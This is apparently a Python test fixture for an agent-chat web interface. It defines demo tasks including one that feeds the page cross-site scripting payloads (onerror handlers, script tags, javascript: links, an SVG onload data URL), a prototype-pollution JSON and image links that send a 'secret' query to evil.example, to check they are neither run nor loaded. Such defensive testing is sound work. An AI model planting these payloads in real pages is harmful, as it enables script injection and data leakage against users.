"""The application that the tests of the page serve."""

import asyncio
import os
from datetime import timedelta
from pathlib import Path

from tailrace import Tailrace, Task, demo

HOSTILE = """<img src=x onerror="document.title='pwned'"> <script>document.title='pwned'</script>

[click](javascript:document.title='pwned') ![x](http://evil.example/?q=secret)

</script><script>document.title='pwned'</script> [^9] `<b>code</b>`

| <i>a</i> | b |
| --- | --- |
| <u>c</u> | http://evil.example/link |
"""


async def hostile(task: Task) -> None:
    """Everything that a page must not run or load."""
    with task.call('<img src=x onerror="document.title=1">') as call:
        call.arguments('{"__proto__": {"polluted": true}, "x": "</script>"}')
    call.start()
    await task.drain()
    svg = (
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='parent.document.title=1'/>"
    )
    call.result(
        {
            "message_content": [{"type": "text", "text": "x"}],
            "block_list": [
                {"type": "text", "text": "<script>document.title='pwned'</script>"},
                {"type": "image", "image_url": {"url": svg}},
                {"type": "image", "image_url": {"url": "http://evil.example/pixel.png"}},
                {"type": "file", "url": "javascript:document.title='pwned'", "name": "x"},
            ],
        }
    )
    with task.message() as message:
        for piece in HOSTILE.splitlines(keepends=True):
            message.text(piece)
            await task.drain()
    with task.message() as message:
        message.text('{"<b>key</b>": "<img src=x onerror=alert(1)> [^9]"}')


MARKDOWN = """# Title

- one
  - inner **bold**
1. first
2. second

- [x] done
- [ ] open

  ~~~sh
  make demo
    indented
  ~~~

| a | b |
| --- | ---: |
| `x` | 1 |

```python
print("[^1]")
```

Two\x20\x20
lines. See https://example.com/a.

| 1,204,331 | 3,901,220 | 1,802,114 | 1,201,440 | 1,204,331 | 3,901,220 | 1,802,114 | 1,201,440 |
| - | - | - | - | - | - | - | - |
| 1,204,331 | 3,901,220 | 1,802,114 | 1,201,440 | 1,204,331 | 3,901,220 | 1,802,114 | 1,201,440 |
"""


async def careful(task: Task) -> None:
    """Asks which way, and before it sends."""
    with task.call("send_mail") as call:
        call.arguments('{"to": ')
        await task.drain()
        way = await task.ask("Which way?")
        call.arguments('"ada@example.com"}')
    await task.drain()
    answer = await task.ask("Send the mail?", kind="approval", call=call)
    if answer.approved:
        call.start()
        await task.drain()
        call.result("sent")
    with task.message() as message:
        message.text(f"Sent by {way.value}." if answer.approved else "Not sent.")


async def flood(task: Task) -> None:
    """20,000 events, as fast as they can be written."""
    with task.message() as message:
        for number in range(20_000):
            message.text(f"word{number} " if number % 40 else f"\n\nParagraph {number}. ")
            if number % 200 == 0:
                await task.drain()


def is_there(file: str) -> bool:
    return Path(file).exists()


async def slow(task: Task) -> None:
    """Writes 41 words, and 159 more when the file that it was asked for is there."""
    with task.message() as message:
        for number in range(200):
            message.text(f"w{number} ")
            await task.drain()
            while number == 40 and not is_there(task.text):  # noqa: ASYNC110  # another process
                await asyncio.sleep(0.02)


async def failing(task: Task) -> None:
    """Writes Markdown piece by piece, then fails."""
    with task.message() as message:
        for start in range(0, len(MARKDOWN), 5):
            message.text(MARKDOWN[start : start + 5])
            await task.drain()
    raise RuntimeError("The secret of the server")


app = Tailrace(
    [demo.assistant(0.01), careful, failing, flood, hostile, slow],
    os.environ["TAILRACE_TEST_DB"],
    lease=timedelta(seconds=2),  # so that the run of a killed server goes on soon
)
